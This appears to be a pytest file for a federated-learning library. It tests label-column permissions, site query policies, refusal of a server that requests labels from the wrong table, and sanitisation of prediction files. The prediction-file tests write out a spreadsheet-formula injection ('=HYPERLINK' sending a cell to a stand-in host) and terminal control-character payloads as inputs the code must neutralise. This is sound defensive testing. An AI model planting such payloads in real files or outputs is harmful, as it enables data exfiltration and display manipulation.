"""Whose column the label of a query is: a coordinator that names another organisation's would be sent all of it."""

from __future__ import annotations

import contextlib
import csv
import re
from collections.abc import Iterator
from dataclasses import asdict, replace
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow.parquet as pq
import pytest

from fedactors.api import simulate
from fedactors.cli.sites import describe
from fedactors.config import as_dict, build, spell_infinities
from fedactors.data.new_rows import write_predictions
from fedactors.errors import BadInput, Refused
from fedactors.federation.approval import Proposal, as_tree, check_proposal, make_proposal, read_proposal, why_a_person
from fedactors.federation.site_folder import SITE, AllowedQuery, Policy, SiteFolder, TaskFacts
from fedactors.plugins import find_protocol
from fedactors.protocols.tablepuppet.loj_operator import JoinServer
from tests.federation.test_runs import federated
from tests.federation.world import BANK, SHOP, SQL, World
from tests.hostile.test_shown import with_policy

pytestmark = [pytest.mark.slow, pytest.mark.drawn(2, family="hostile")]
CROSSED = "SELECT clients.orders, sales.income FROM clients AS sales JOIN sales AS clients ON clients.id = sales.id"
PARTED = "SELECT c.income, t.orders FROM clients AS c JOIN (SELECT * FROM sales WHERE orders > 0) AS t ON c.id = t.id"
OF_SHOP = {
    "as the data are called": (SQL, "sales.returns"),
    "in other letters": (SQL, "Sales.RETURNS"),
    "a column that is not selected": (SQL.replace(", sales.returns", ""), "sales.returns"),
    "by the other's name": (CROSSED, "clients.returns"),
    "of a table that is filtered": (PARTED, "t.returns"),
}


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    made = World(tmp_path_factory.mktemp("labels"))
    yield made
    made.stop()


@pytest.fixture
def fresh(tmp_path: Path) -> Iterator[World]:
    """One whose files a test changes."""
    made = World(tmp_path)
    yield made
    made.stop()


def proposed(world: World, **task: Any) -> Proposal:
    made = make_proposal(
        world.folder(BANK), find_protocol("tablepuppet"), {"num_rounds": 1}, f"{BANK}=clients,{SHOP}=sales", None
    )
    return replace(made, task=replace(made.task, **task))


def state(world: World, name: str, task: TaskFacts) -> None:
    """Let a site's data state a task, as its person would."""
    file, data = world.path / name / SITE, "clients" if name == BANK else "sales"
    stated = f'task = {{ type = "{task.type}", layout = "relational", sql = "{task.sql}", label = "{task.label}" }}'
    before = rf"(\[data\.{data}\]\npath = .*\n)(task = .*\n)?"
    file.write_text(re.sub(before, lambda found: f"{found[1]}{stated}\n", file.read_text()))


@pytest.mark.parametrize("how", OF_SHOP)
def test_a_label_is_no_column_of_a_site_that_does_not_state_the_task(world: World, how: str) -> None:
    sql, label = OF_SHOP[how]
    asked = proposed(world, sql=sql, label=label, type="regression", classes=1)
    with pytest.raises(BadInput, match=r"shop: data.sales: task.label: .* is not allowed: a column of theirs"):
        check_proposal(asked, world.folder(SHOP))


@pytest.mark.parametrize("label", ["returns", "bad", "orders.returns", ".returns"])
def test_a_label_names_its_table(world: World, label: str) -> None:
    """Of one that does not, the table follows from the columns that a server says others have."""
    with pytest.raises(BadInput, match=r"label: .* is not allowed: give TABLE.COLUMN, of the query's tables clients"):
        check_proposal(proposed(world, label=label), world.folder(SHOP))


def test_who_states_the_same_task_may_hold_its_label_and_sees_that_it_leaves(fresh: World) -> None:
    asked = proposed(fresh, label="sales.returns", type="regression", classes=1)
    said = "the label 'sales.returns' is a column of yours: its value of each row that is read"
    assert not any(said in line for line in describe(fresh.folder(SHOP), proposed(fresh))["left_open"])
    state(fresh, SHOP, asked.task)
    shop = fresh.folder(SHOP)
    (line,) = [one for one in describe(shop, asked)["left_open"] if said in one]
    assert line.endswith("of test rows too, which scores of outputs that the server makes up spell")
    noised = replace(asked, config={"num_rounds": 1, "label_dp": 1.0, "label_range": (0.0, 9.0)})
    assert not any("the label" in line for line in describe(shop, noised)["left_open"])
    for other in ({"type": "binary", "classes": 2}, {"categorical": ("clients.income",)}, {"label": "sales.orders"}):
        with pytest.raises(BadInput, match="a column of theirs is a label only where"):
            check_proposal(replace(asked, task=replace(asked.task, **other)), shop)


def test_a_policy_answers_for_a_query_with_the_label_and_type_that_it_names(world: World) -> None:
    asked, folder = proposed(world), world.folder(SHOP)
    _, config = check_proposal(asked, folder)
    task = asdict(asked.task)
    named = AllowedQuery(sql=task["sql"], label=task["label"], type="binary")

    def why(**other: Any) -> str:
        folder.policy = Policy(approve="policy", queries=[named])  # type: ignore[misc]
        return why_a_person(config, replace(asked, task=replace(asked.task, **other)), folder)

    assert why() == ""
    said = "its query, with this label and type, is not among policy.queries"
    others = {"sql": SQL + " WHERE 1 = 1", "label": "clients.income", "categorical": ("sales.orders",), "classes": 3}
    assert [why(**{name: value}) for name, value in others.items()] == [said] * len(others)
    assert why(type="regression", classes=1) == said


def test_a_policy_names_a_whole_task(fresh: World) -> None:
    for written, said in (
        ('queries = ["SELECT 1"]', "policy.queries.0"),
        ('[[policy.queries]]\nsql = "SELECT 1"\ntype = "binary"', "policy.queries.0.label"),
        ('[[policy.queries]]\nsql = "SELECT 1"\nlabel = "a.b"\ntype = "multiclass"', "classes: None is not allowed"),
    ):
        with_policy(fresh, written)
        with pytest.raises(BadInput, match=said):
            SiteFolder(fresh.path / SHOP)


def test_no_policy_gives_away_a_column_as_the_label(fresh: World, capsys: pytest.CaptureFixture[str]) -> None:
    """The policy names the query, and the task too: a column of the site's is a label only where its data say so."""
    with_policy(fresh, f'[[policy.queries]]\nsql = "{SQL}"\nlabel = "sales.returns"\ntype = "regression"')
    state(fresh, BANK, proposed(fresh, label="sales.returns", type="regression", classes=1).task)
    fresh.start(BANK)
    fresh.start(SHOP)
    persons = fresh.answer(names=(BANK,), seconds=5.0)
    assert federated(fresh, ("num_rounds=1",), protocol="tablepuppet", answering=persons) in (2, 3)
    assert "a column of theirs is a label only where" in capsys.readouterr().err
    assert not any(line["what"] in ("approved", "ended") for line in fresh.audit(SHOP))


def test_a_table_without_the_label_gives_no_labels(monkeypatch: pytest.MonkeyPatch) -> None:
    honest = JoinServer._agree_on_plan

    async def of_another(self: JoinServer) -> None:
        await honest(self)
        self.label_index = (self.label_index + 1) % len(self._plan.tables)

    monkeypatch.setattr(JoinServer, "_agree_on_plan", of_another)
    with pytest.raises(Refused, match=r"server: asks .* for labels, which are no column of its table"):
        simulate("tablepuppet", seed=1, **find_protocol("tablepuppet").smoke)


# --- names of classes in a file of predictions ---


def written(path: Path, names: tuple[str, ...], rejected: dict[int, str] | None = None) -> list[dict[str, str]]:
    count = len(names)
    write_predictions(
        path,
        ids={"id": [f"-id{row}" for row in range(count)]},
        rows=np.arange(count),
        values=np.eye(count),
        class_names=names,
        task="multiclass",
        rejections=rejected or {},
    )
    with path.open(newline="") as file:
        return list(csv.DictReader(file))


def test_no_class_that_another_party_names_is_a_formula(tmp_path: Path) -> None:
    """A spreadsheet that opens a site's predictions would send other cells where the formula says."""
    names = ('=HYPERLINK("http://x/?"&A2)', "@SUM(1)", "+x+1", "-x", "\tx", "-1", "+1.5", "-", "+", "a=b", "")
    cells = [row["prediction"] for row in written(tmp_path / "new.csv", names)]
    assert cells == [*(f"'{name}" for name in names[:5]), *names[5:]]
    assert [row["id"] for row in written(tmp_path / "new.csv", ("a", "b"))] == ["-id0", "-id1"], "ids are one's own"
    rows = written(tmp_path / "new.csv", ("a", "b"), {0: "no partner in \x1b[2J", 1: "=1+1 misses values"})
    assert [row["reason"] for row in rows] == ["no partner in ?[2J", "'=1+1 misses values"]
    written_whole = tmp_path / "new.parquet"
    with contextlib.suppress(UnicodeDecodeError):
        written(written_whole, names)
    assert pq.read_table(written_whole)["prediction"].to_pylist() == list(names)


def test_classes_of_a_proposal_have_no_control_characters(fresh: World) -> None:
    settings = spell_infinities(as_dict(build(find_protocol("horizontal").Config, {"on_party_loss": "stop"})))
    names = f"{BANK}=patients,{SHOP}=cases"
    made = make_proposal(fresh.folder(BANK), find_protocol("horizontal"), settings, names, None)
    tree = as_tree(made)
    for label in ("a\nb", "a\tb", "\x1b[2J", "\u202e", "a\x00"):
        with pytest.raises(BadInput, match=r"task: Value error, labels: .* is not allowed: control characters"):
            read_proposal({**tree, "task": {**tree["task"], "labels": ["0", label]}})
    read_proposal({**tree, "task": {**tree["task"], "labels": ["-1", "caf\u00e9\u00a0+"]}})
    file = fresh.path / BANK / SITE
    file.write_text(file.read_text().replace('classes = ["0", "1"]', 'classes = ["0", "a\\u001b"]'))
    with pytest.raises(BadInput, match=r"data\.patients\.task: labels: 'a\\x1b' is not allowed: control characters"):
        fresh.folder(BANK).task("patients")
